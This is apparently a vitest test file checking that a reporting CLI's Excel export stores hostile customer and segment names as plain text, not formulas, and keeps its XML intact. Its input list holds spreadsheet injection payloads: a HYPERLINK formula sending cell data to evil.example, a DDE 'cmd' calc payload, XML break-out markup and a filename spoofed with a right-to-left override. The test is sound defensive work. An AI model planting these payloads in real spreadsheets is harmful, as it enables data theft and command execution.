import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ue } from "../../support/io.ts";
import { type ReadWorkbook, readWorkbook } from "../../support/workbook.ts";
import { parseXml } from "../../support/xml.ts";

/** Names that a spreadsheet, XML or Excel's own escapes would take for more than text. */
const NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"open me")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\uff1d1+1",
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  "_x003D_1+1",
  "<!DOCTYPE x>]]>&amp;",
  "\u001b[31mred\u0007",
  "\u202egnp.exe",
  "\ufffe\uffff",
  "*",
  "<>0",
];

const folder = mkdtempSync(join(tmpdir(), "ue-hostile-workbook-"));
afterAll(() => rmSync(folder, { recursive: true }));
let book: ReadWorkbook;

beforeAll(async () => {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const lines = NAMES.flatMap((name, i) =>
    [2023, 2024].map((year, j) =>
      [quoted(`${name} ${j}`), `${year}-0${j + 1}-01`, "", String(100 + i), "month", quoted(name), quoted(name)].join(
        ",",
      ),
    ),
  );
  const heads = "customer_id,start_date,end_date,amount,interval,segment,channel";
  writeFileSync(join(folder, "subs.csv"), `${heads}\n${lines.join("\n")}\n`);
  const costs = Array.from({ length: 12 }, (_, i) => `2024-${String(i + 1).padStart(2, "0")},sales,1000`);
  writeFileSync(join(folder, "costs.csv"), `month,category,amount\n${costs.join("\n")}\n`);
  const gates = NAMES.map((name, i) => ({
    id: `own.${i}`,
    metric: "customers",
    min: 1000,
    stages: ["gtm"],
    segment: name,
    title: name,
    action: name,
    because: name,
    source: name,
  }));
  const config = { version: 1, subscriptions: { files: ["subs.csv"] }, costs: { files: ["costs.csv"] }, gates };
  writeFileSync(join(folder, "ue.yaml"), JSON.stringify(config));
  const { code, stdout, stderr } = await ue(["report", "--format", "xlsx"], { cwd: folder });
  expect([code, stderr]).toEqual([0, ""]);
  book = readWorkbook(Buffer.from(stdout, "latin1"));
});

const cells = () =>
  [...book.sheets].flatMap(([sheet, found]) => [...found].map(([at, cell]) => ({ sheet, at, ...cell })));

describe("hostile names in a workbook", () => {
  it("are in it, as text", () => {
    const groups = cells().filter(({ sheet, at }) => sheet === "Metrics" && /^D\d+$/.test(at));
    for (const name of ["+1+1", "@SUM(1,2)", "\uff1d1+1", "*", "<>0"]) {
      const found = groups.filter(({ value }) => value === name);
      expect(found.length, name).toBeGreaterThan(0);
      for (const { type, formula } of found) expect([type, formula], name).toEqual(["inlineStr", null]);
    }
  });

  it("are in no formula", () => {
    for (const { formula } of cells())
      if (formula !== null) expect(formula).not.toMatch(/HYPERLINK|cmd|@SUM|evil|calc'|gnp|red/);
  });

  it("keep the mark of text when somebody edits the cell", () => {
    const formats = [...book.parts["xl/styles.xml"]!.split("<cellXfs")[1]!.matchAll(/<xf [^>]*>/g)].map(([xf]) => xf);
    const risky = cells().filter(({ type, value }) => type === "inlineStr" && /^[-=+@\uff1d]/.test(value!));
    expect(risky.length).toBeGreaterThan(10);
    for (const { style, value } of risky) expect(formats[style], value!).toContain('quotePrefix="1"');
  });

  it("cannot write characters by Excel's escapes, or break out of the XML", () => {
    const values = cells().map(({ value }) => value);
    expect(values).toContain("_x005F_x003D_1+1");
    expect(values).toContain('</t></is></c><c r="A1"><f>1+1</f></c>');
    for (const [path, xml] of Object.entries(book.parts)) {
      const plain = xml.replace(' standalone="yes"', "").replaceAll(/ xml:space="[a-z]+"/g, "");
      expect(() => parseXml(plain.replaceAll("r:id=", "id=").replaceAll("xmlns:r=", "xmlns-r=")), path).not.toThrow();
    }
  });

  it("move no check", () => {
    const checks = cells().filter(({ sheet, at, type }) => sheet === "Checks" && type === "b" && at.startsWith("B"));
    expect(checks.filter(({ value }) => value !== "1")).toEqual([]);
    expect(checks.length).toBeGreaterThan(30);
  });
});
